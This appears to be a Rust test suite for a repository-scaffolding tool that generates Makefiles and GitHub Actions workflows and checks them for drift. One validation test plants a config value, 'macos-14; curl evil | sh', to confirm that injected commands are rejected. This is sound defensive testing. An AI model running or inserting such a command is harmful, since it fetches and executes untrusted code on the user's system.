//! `htdemucs-devops init`: scaffolding a consumer repository, drift checks, never
//! overwriting without `--force`, and generated workflows that fit action.yml.

use crate::common::*;
use crate::composite::check_action_uses;
use serde_yaml_ng::Value;
use std::path::Path;
use std::process::Command;

const GENERATED: [&str; 9] = [
    "Makefile",
    "htdemucs-devops.mk",
    ".pre-commit-config.yaml",
    ".swiftformat",
    ".github/dependabot.yml",
    ".github/htdemucs-devops.yml",
    ".github/workflows/htdemucs-devops.yml",
    ".github/workflows/ci.yml",
    ".github/workflows/ci-comment.yml",
];

fn init(dir: &Path, args: &[&str]) -> std::process::Output {
    run(bin().arg("init").args(args).current_dir(dir))
}

fn empty_repo() -> tempfile::TempDir {
    let dir = tempdir();
    let git = run(Command::new("git")
        .args(["init", "-q"])
        .current_dir(dir.path()));
    assert!(git.status.success());
    dir
}

fn read(p: &Path) -> String {
    std::fs::read_to_string(p).unwrap_or_else(|e| panic!("{}: {e}", p.display()))
}

fn yaml(p: &Path) -> Value {
    serde_yaml_ng::from_str(&read(p))
        .unwrap_or_else(|e| panic!("{} does not parse: {e}", p.display()))
}

#[test]
fn init_into_an_empty_repo_then_check_reports_no_drift() {
    let repo = empty_repo();
    let dir = repo.path();
    let out = init(dir, &[]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}{}",
        stdout(&out),
        stderr(&out)
    );
    for f in GENERATED {
        assert!(dir.join(f).is_file(), "{f} was not created");
        assert!(
            stdout(&out).contains(&format!("created {f}")),
            "{}",
            stdout(&out)
        );
    }
    let check = init(dir, &["--check"]);
    assert_eq!(
        check.status.code(),
        Some(0),
        "{}{}",
        stdout(&check),
        stderr(&check)
    );
    assert!(stdout(&check).contains("9 files match their templates"));

    // Every YAML file parses; the config file is one our own loader accepts.
    for f in GENERATED
        .iter()
        .filter(|f| f.ends_with(".yml") || f.ends_with(".yaml"))
    {
        yaml(&dir.join(f));
    }
    let cfg = run(bin()
        .args(["init", "--check", "--config", ".github/htdemucs-devops.yml"])
        .current_dir(dir));
    assert_eq!(cfg.status.code(), Some(0), "{}", stderr(&cfg));

    // The workflows use only inputs action.yml declares, and use the action in every job
    // that runs a phase.
    let mut uses = 0;
    for wf in [
        ".github/workflows/htdemucs-devops.yml",
        ".github/workflows/ci.yml",
        ".github/workflows/ci-comment.yml",
    ] {
        let (n, problems) = check_action_uses(wf, &read(&dir.join(wf)));
        assert!(problems.is_empty(), "{problems:#?}");
        uses += n;
    }
    assert_eq!(
        uses, 8,
        "lint, test, parity, report, benchmark run + record, publish, fork comment"
    );
}

#[test]
fn generated_ci_has_the_designed_shape() {
    let repo = empty_repo();
    let dir = repo.path();
    assert_eq!(init(dir, &[]).status.code(), Some(0));
    // ci.yml is the maintainer's: triggers, dispatch input, and one job calling ours.
    let ci = yaml(&dir.join(".github/workflows/ci.yml"));
    let call = &ci["jobs"]["htdemucs-devops"];
    assert_eq!(
        call["uses"].as_str(),
        Some("./.github/workflows/htdemucs-devops.yml")
    );
    let wf = yaml(&dir.join(".github/workflows/htdemucs-devops.yml"));
    assert!(wf["on"]["workflow_call"]["inputs"]["phase"].is_mapping());
    let jobs = &wf["jobs"];
    // Lint, build+test and parity run in parallel: none waits for another.
    for j in ["lint", "build-test", "parity"] {
        assert!(jobs[j].is_mapping(), "job {j} missing");
        assert!(
            jobs[j]["needs"].is_null(),
            "{j} should not wait for other jobs"
        );
    }
    let needs = |j: &str| -> Vec<String> {
        jobs[j]["needs"]
            .as_sequence()
            .map(|s| {
                s.iter()
                    .filter_map(|v| v.as_str().map(str::to_string))
                    .collect()
            })
            .unwrap_or_else(|| panic!("{j} has no needs"))
    };
    assert_eq!(needs("report"), ["lint", "build-test", "parity"]);
    assert!(jobs["report"]["permissions"]["pull-requests"].as_str() == Some("write"));
    // Benchmark and publish: main only, one writer at a time, never cancelled midway.
    for j in ["benchmark", "publish"] {
        let cond = jobs[j]["if"].as_str().expect("the job has an if");
        assert!(cond.contains("refs/heads/main"), "{j}: {cond}");
        assert!(jobs[j]["concurrency"]["group"].as_str().is_some(), "{j}");
        assert_eq!(
            jobs[j]["concurrency"]["cancel-in-progress"].as_bool(),
            Some(false)
        );
        assert_eq!(jobs[j]["permissions"]["contents"].as_str(), Some("write"));
    }
    // workflow_dispatch with a phase choice.
    let phase = &ci["on"]["workflow_dispatch"]["inputs"]["phase"];
    assert_eq!(phase["type"].as_str(), Some("choice"));
    let options: Vec<&str> = phase["options"]
        .as_sequence()
        .map(|s| s.iter().filter_map(|v| v.as_str()).collect())
        .expect("the phase input has options");
    for p in ["lint", "test", "parity", "benchmark", "publish"] {
        assert!(options.contains(&p), "{options:?}");
    }
    // SPM, brew and venv caching.
    let text = read(&dir.join(".github/workflows/htdemucs-devops.yml"));
    assert!(
        text.contains("path: .build") && text.contains("spm-"),
        "SPM cache"
    );
    assert!(
        text.contains("path: .venv") && text.contains("venv-"),
        "venv cache"
    );
    assert!(
        text.contains("path: ~/Library/Caches/Homebrew"),
        "brew cache"
    );
    // The companion runs on workflow_run of CI, for fork PRs, without checking out code.
    let comment = yaml(&dir.join(".github/workflows/ci-comment.yml"));
    assert_eq!(
        comment["on"]["workflow_run"]["workflows"][0].as_str(),
        Some("CI")
    );
    let ctext = read(&dir.join(".github/workflows/ci-comment.yml"));
    assert!(ctext.contains("head_repository.full_name != github.repository"));
    assert!(!ctext.contains("actions/checkout") && !ctext.contains("pull_request_target"));

    // Hooks and Dependabot as the foundation design lists them.
    let hooks = read(&dir.join(".pre-commit-config.yaml"));
    for id in [
        "swiftformat",
        "ruff",
        "ruff-format",
        "trailing-whitespace",
        "end-of-file-fixer",
        "check-yaml",
        "check-added-large-files",
    ] {
        assert!(hooks.contains(&format!("- id: {id}\n")), "hook {id}");
    }
    assert!(hooks.contains("--maxkb=500"));
    let dependabot = yaml(&dir.join(".github/dependabot.yml"));
    let ecosystems: Vec<&str> = dependabot["updates"]
        .as_sequence()
        .map(|s| {
            s.iter()
                .filter_map(|u| u["package-ecosystem"].as_str())
                .collect()
        })
        .expect("dependabot.yml has updates");
    assert_eq!(ecosystems, ["swift", "pip", "pre-commit", "github-actions"]);
}

#[test]
fn the_makefile_has_every_target_and_make_accepts_it() {
    let repo = empty_repo();
    let dir = repo.path();
    write(
        &dir.join("Package.swift"),
        "let package = Package(name: \"Sep\", products: [.executable(name: \"sep-cli\", targets: [\"CLI\"])])\n",
    );
    assert_eq!(init(dir, &[]).status.code(), Some(0));
    let targets = [
        "build",
        "build-cli",
        "clean",
        "test",
        "test-parity",
        "test-all",
        "lint",
        "format",
        "format-fix",
        "setup",
        "setup-hooks",
        "setup-torch",
        "benchmark",
        "benchmark-compare",
        "parity-report",
    ];
    for t in targets {
        // `make -n` parses the whole Makefile (tabs and all) and prints the recipe.
        let out = run(Command::new("make")
            .args(["-n", t, "CURRENT=run.json"])
            .current_dir(dir));
        assert!(out.status.success(), "make -n {t}: {}", stderr(&out));
    }
    let cli = run(Command::new("make")
        .args(["-n", "build-cli"])
        .current_dir(dir));
    assert!(
        stdout(&cli).contains("swift build -c release --product sep-cli"),
        "{}",
        stdout(&cli)
    );
    let torch = run(Command::new("make")
        .args(["-n", "setup-torch"])
        .current_dir(dir));
    assert!(
        stdout(&torch).contains("htdemucs-devops torch provision"),
        "{}",
        stdout(&torch)
    );
    let help = run(Command::new("make").current_dir(dir));
    for t in targets {
        assert!(
            stdout(&help).contains(&format!("  {t} ")),
            "help lacks {t}: {}",
            stdout(&help)
        );
    }
}

#[test]
fn never_overwrites_without_force_and_check_reports_drift() {
    let repo = empty_repo();
    let dir = repo.path();
    assert_eq!(init(dir, &[]).status.code(), Some(0));
    let makefile = dir.join("Makefile");
    let generated = read(&makefile);
    // Targets of the maintainer's own, outside the markers, are no drift.
    write(&makefile, &format!("{generated}\nmine:\n\techo mine\n"));
    assert_eq!(init(dir, &["--check"]).status.code(), Some(0));
    // A file init owns whole is.
    let mk = dir.join("htdemucs-devops.mk");
    let generated_mk = read(&mk);
    write(&mk, &format!("{generated_mk}\nmine:\n\techo mine\n"));
    let edited = read(&mk);

    let out = init(dir, &[]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains(
            "htdemucs-devops.mk exists and differs from the template; kept it (use --force"
        ),
        "{}",
        stderr(&out)
    );
    assert_eq!(read(&mk), edited);

    let check = init(dir, &["--check"]);
    assert_eq!(check.status.code(), Some(1));
    let so = stdout(&check);
    let first_new = generated_mk.lines().count() + 1;
    assert!(
        so.contains(&format!(
            "drifted htdemucs-devops.mk (from line {first_new})"
        )),
        "{so}"
    );
    assert!(
        so.contains("1 of 9 files drifted: run htdemucs-devops init"),
        "{so}"
    );

    // In Actions, drift is an error annotation.
    let ci = run(bin_in_actions(dir)
        .args(["init", "--check"])
        .current_dir(dir));
    assert_eq!(ci.status.code(), Some(1));
    let cmds = workflow_commands(&stdout(&ci));
    assert!(
        cmds.iter().any(|c| c
            .starts_with(&format!("::error file=htdemucs-devops.mk,line={first_new}"))
            && c.contains("::htdemucs-devops.mk differs from what init generates")),
        "{cmds:?}"
    );

    // A deleted file is drift too.
    std::fs::remove_file(dir.join(".swiftformat")).unwrap_or_else(|e| panic!("{e}"));
    let check = init(dir, &["--check"]);
    assert!(
        stdout(&check).contains("missing .swiftformat"),
        "{}",
        stdout(&check)
    );

    let force = init(dir, &["--force"]);
    assert_eq!(force.status.code(), Some(0), "{}", stderr(&force));
    assert!(stdout(&force).contains("overwritten htdemucs-devops.mk"));
    assert_eq!(read(&mk), generated_mk);
    assert!(read(&makefile).ends_with("mine:\n\techo mine\n"));
    assert_eq!(init(dir, &["--check"]).status.code(), Some(0));
}

#[test]
fn the_config_file_drives_the_scaffold_and_stays_the_users() {
    let repo = empty_repo();
    let dir = repo.path();
    assert_eq!(init(dir, &["--runs-on", "macos-15"]).status.code(), Some(0));
    assert!(read(&dir.join(".github/workflows/htdemucs-devops.yml")).contains("runs-on: macos-15"));
    let config = dir.join(".github/htdemucs-devops.yml");
    assert!(read(&config).contains("runs_on: macos-15"));
    assert_eq!(init(dir, &["--check"]).status.code(), Some(0));

    // Flags cannot disagree with an existing config.
    let out = init(dir, &["--runs-on", "macos-13"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("edit its `init` section"),
        "{}",
        stderr(&out)
    );

    // The user edits the settings: check reports the workflow as drifted, but never the
    // config file itself; --force regenerates the workflow and keeps the config.
    let edited = read(&config).replace("runs_on: macos-15", "runs_on: macos-26");
    write(&config, &edited);
    let check = init(dir, &["--check"]);
    assert_eq!(check.status.code(), Some(1));
    let so = stdout(&check);
    assert!(
        so.contains("drifted .github/workflows/htdemucs-devops.yml"),
        "{so}"
    );
    assert!(
        so.contains("up to date .github/htdemucs-devops.yml"),
        "{so}"
    );
    assert_eq!(init(dir, &["--force"]).status.code(), Some(0));
    assert!(read(&dir.join(".github/workflows/htdemucs-devops.yml")).contains("runs-on: macos-26"));
    assert_eq!(read(&config), edited);

    // A file listed under init.skip is the user's.
    write(
        &config,
        &edited.replace("skip: []", "skip: [htdemucs-devops.mk]"),
    );
    write(&dir.join("htdemucs-devops.mk"), "all:\n\ttrue\n");
    assert_eq!(init(dir, &["--check"]).status.code(), Some(0));
}

#[test]
fn bad_settings_exit_2_naming_the_file_and_key() {
    let repo = empty_repo();
    let dir = repo.path();
    write(
        &dir.join(".github/htdemucs-devops.yml"),
        "init:\n  runs_on: \"macos-14; curl evil | sh\"\n",
    );
    let out = init(dir, &[]);
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(
        err.contains(".github/htdemucs-devops.yml: init.runs_on"),
        "{err}"
    );
    assert!(!dir.join("Makefile").exists());

    write(
        &dir.join(".github/htdemucs-devops.yml"),
        "init:\n  runs-on: macos-14\n",
    );
    let out = init(dir, &["--check"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("htdemucs-devops.yml:2:"),
        "{}",
        stderr(&out)
    );
}
